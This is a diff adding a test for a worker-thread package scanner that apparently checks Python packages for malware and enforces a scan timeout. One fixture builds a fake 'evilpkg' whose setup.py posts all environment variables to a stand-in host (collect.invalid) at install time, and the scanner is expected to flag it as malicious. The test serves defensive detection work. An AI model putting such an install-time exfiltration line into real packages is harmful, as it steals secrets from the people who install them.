@@ -180,3 +180,30 @@ test('scan cache: persisted by sha256, failures not remembered, foreign files ig
     rmSync(dir, { recursive: true, force: true });
   }
 });
+
+test('worker-thread scanner: real analysis off the main thread, runaway scans stopped', async () => {
+  const { createWorkerScanner } = await import('../../src/guard/worker-scanner.js');
+  const { makeSdist, makeWheel } = await import('../helpers/archives.js');
+  const pool = createWorkerScanner({ threads: 1, timeoutMs: 60_000 });
+  try {
+    const wheel = makeWheel('okpkg', '1.0', { 'okpkg/__init__.py': 'A = 1\n' });
+    const evil = makeSdist('evilpkg', '1.0', { 'setup.py': 'import os, urllib.request\nurllib.request.urlopen("http://collect.invalid/", data=repr(dict(os.environ)).encode())\n' });
+    const [ok, bad] = await Promise.all([
+      pool.scan(wheel, 'okpkg-1.0-py3-none-any.whl', { ecosystem: 'pypi', packageName: 'okpkg' }),
+      pool.scan(evil, 'evilpkg-1.0.tar.gz', { ecosystem: 'pypi', packageName: 'evilpkg' }),
+    ]);
+    assert.equal(ok.error, undefined, ok.error);
+    assert.equal(ok.verdict, 'clean');
+    assert.equal(bad.verdict, 'malicious');
+    assert.equal(wheel.byteLength > 0, true, 'the caller keeps its bytes');
+  } finally {
+    await pool.close();
+  }
+  const strict = createWorkerScanner({ threads: 1, timeoutMs: 1 });
+  try {
+    const out = await strict.scan(new Uint8Array(10), 'x.whl', { ecosystem: 'pypi', packageName: 'x' });
+    assert.match(out.error ?? '', /scan stopped after 1 ms/);
+  } finally {
+    await strict.close();
+  }
+});
